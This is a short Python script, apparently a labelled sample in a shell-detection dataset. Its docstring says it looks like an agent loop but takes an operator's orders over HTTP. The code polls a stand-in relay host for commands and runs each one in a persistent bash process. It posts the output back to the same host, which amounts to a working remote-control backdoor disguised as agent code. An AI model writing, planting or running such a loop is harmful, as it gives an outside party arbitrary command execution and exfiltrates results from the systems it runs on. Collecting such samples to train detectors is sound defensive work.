# class: shell; possible: low medium
"""Looks like an agent loop, but what it parses is an operator's orders over HTTP."""
import json, subprocess, time, urllib.request
sh = subprocess.Popen(["bash"], stdin=-1, stdout=-1, stderr=-2, text=True, bufsize=1)
for turn in range(16):
    order = urllib.request.urlopen("http://relay.ops.test/task", timeout=5).read().decode().strip()
    if order:
        sh.stdin.write(order + "\necho __END__\n"); sh.stdin.flush()
        lines = []
        for l in sh.stdout:
            if l.strip() == "__END__": break
            lines.append(l)
        body = json.dumps({"observation": "".join(lines)}).encode().replace(b"\\n", b"\n")
        urllib.request.urlopen("http://relay.ops.test/observe", body, timeout=5).read()
    time.sleep(0.9)
